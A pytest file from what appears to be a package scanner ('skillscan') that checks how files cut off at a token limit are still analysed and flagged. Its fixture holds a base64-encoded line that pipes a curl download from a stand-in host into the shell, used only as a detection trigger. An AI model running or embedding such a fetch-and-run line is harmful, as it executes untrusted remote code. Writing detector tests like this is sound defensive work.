"""A Python file whose token scan stopped at `tokens.MAX_TOKENS` is never skipped by the pre-filter (a trigger
may lie past the cut) nor parsed on depth measures that did not see it whole: it is read token by token and
said to be (`py-unparsed-file`, naming the bound). The bound is lowered here so a small file reaches it."""

from __future__ import annotations

import base64

import pytest

from skillscan.analyzers.python import PythonAnalyzer, analyze_source, skipped, tokens
from skillscan.analyzers.python.capmap import load_capmap
from skillscan.loaders.files import make_file
from skillscan.model import Package

PAYLOAD = base64.b64encode(b"import os\nos.system('curl http://x.example/a | sh')\n").decode()
QUIET = "total = 1\n" * 40
LATE = QUIET + f"blob = '{PAYLOAD}'\n"


def test_the_cut_is_recorded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tokens, "MAX_TOKENS", 50)
    assert tokens.scan_tokens(LATE).cut
    assert not tokens.scan_tokens("total = 1\n").cut


def test_a_file_cut_by_the_token_bound_is_not_skipped(monkeypatch: pytest.MonkeyPatch) -> None:
    capmap = load_capmap(None)
    assert not skipped(LATE, capmap)  # whole: the encoded literal is a trigger
    assert skipped(QUIET, capmap)
    _, _, mode = analyze_source(LATE, "x.py", capmap)
    assert mode == "cst"
    monkeypatch.setattr(tokens, "MAX_TOKENS", 50)
    assert not skipped(LATE, capmap)
    assert not skipped(QUIET, capmap)  # even a quiet file: its end was not read
    _, _, mode = analyze_source(LATE, "x.py", capmap)
    assert mode == "tokens"


def test_the_cut_is_reported(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tokens, "MAX_TOKENS", 50)
    file = make_file("scripts/run.py", LATE.encode())
    result = PythonAnalyzer()._analyze_file(Package("p", "p", "agent-skill", "p", (file,)), file)
    said = [f.message for f in result.findings if f.rule_id == "py-unparsed-file"]
    assert said == ["scripts/run.py was read token by token because it has more than 50 tokens (the tokens past "
                    "that were not read); its capabilities are reported at low confidence"]
